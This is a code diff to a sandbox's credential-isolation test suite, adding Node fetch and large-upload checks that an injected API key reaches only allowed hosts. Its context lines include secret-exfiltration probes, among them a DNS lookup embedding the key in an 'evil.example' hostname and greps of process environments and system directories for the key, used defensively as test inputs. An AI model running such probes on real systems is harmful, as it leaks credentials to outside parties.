@@ -20,6 +20,8 @@ class H(http.server.BaseHTTPRequestHandler):
     def answer(self):
         n = int(self.headers.get("Content-Length") or 0)
         body = self.rfile.read(n) if n else b""
+        if self.path == "/upload":
+            body = ("len=%d sum=%d" % (len(body), sum(body[::4096]))).encode()
         with lock, open(log, "a") as f:
             f.write("%d %s %s\n%s%s\n--\n" % (self.server.server_port, self.command, self.path,
                     str(self.headers), body.decode("latin-1")))
@@ -170,6 +172,8 @@ curl -sS -m 10 --cacert /world/ca.pem -H "x-api-key: $LLM_KEY" https://cdn.allow
 curl -sS -m 10 --data "k=$LLM_KEY" https://web.allowed.example:9443/inbody
 getent hosts "$LLM_KEY.evil.example" >/dev/null
 curl -sS -m 10 --compressed -H "x-api-key: $LLM_KEY" https://web.allowed.example:9443/reflect
+node -e 'fetch("https://web.allowed.example:9443/node", {{headers: {{"x-api-key": process.env.LLM_KEY}}}}).then(r => r.text()).then(t => process.stdout.write(t), e => {{ console.error(e); process.exit(1) }})'
+head -c 8388608 /dev/zero | tr '\0' 'a' | curl -sS -m 60 --data-binary @- -H "x-api-key: $LLM_KEY" https://web.allowed.example:9443/upload
 git clone -q https://web.allowed.example/repo.git /tmp/repo && echo "git=$(cat /tmp/repo/README)"
 echo "found=$( (env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline) 2>/dev/null | tr '\0' '\n' | grep -c '{pat}')"
 echo "files=$(grep -rIl '{pat}' /etc /sandbox /tmp /root /home /run /var /world 2>/dev/null | wc -l)"
@@ -210,6 +214,18 @@ echo "bundle=$SSL_CERT_FILE $(grep -c 'BEGIN CERTIFICATE' $SSL_CERT_FILE)"
     );
     assert!(out.contains("found=0\n"), "{out}");
     assert!(out.contains("files=0\n"), "{out}");
+    // Node's fetch trusts the sandbox CA through NODE_EXTRA_CA_CERTS; an 8 MiB body arrives
+    // whole.
+    let node = echo.request("/node");
+    assert!(
+        node.to_lowercase().contains(&format!("x-api-key: {key}\n")),
+        "{node}"
+    );
+    let upload = echo.request("/upload");
+    assert!(
+        upload.contains(&format!("len={} sum={}", 8 << 20, 2048 * 97)),
+        "{upload}"
+    );
     // A server reflecting the key hands the sandbox asterisks.
     let stars = "*".repeat(key.len());
     assert!(out.contains(&format!("reflected {stars}\n")), "{out}");
@@ -220,7 +236,7 @@ echo "bundle=$SSL_CERT_FILE $(grep -c 'BEGIN CERTIFICATE' $SSL_CERT_FILE)"
     // git (many requests, one connection each) trusts the sandbox CA with no flags.
     assert!(out.contains("git=cloned through nsbox\n"), "{out}");
     assert!(out.contains("bundle=/etc/nsbox-ca-bundle.pem "), "{out}");
-    assert_eq!(out.matches("ok\n").count(), 7, "{out}");
+    assert_eq!(out.matches("ok\n").count(), 9, "{out}");
 
     // The bound host got the real key in both headers, over TLS curl trusted with no flags.
     let api = echo.request("/v1/messages");
@@ -255,7 +271,7 @@ echo "bundle=$SSL_CERT_FILE $(grep -c 'BEGIN CERTIFICATE' $SSL_CERT_FILE)"
     assert!(echo
         .request("/otherhost")
         .contains(&format!("x-api-key: {placeholder}")));
-    assert_eq!(echo.log().matches(&key).count(), 4, "{}", echo.log());
+    assert_eq!(echo.log().matches(&key).count(), 6, "{}", echo.log());
 
     let has = |ty: &str, host: &str, field: &str, value: &str| {
         events.iter().any(|e| {
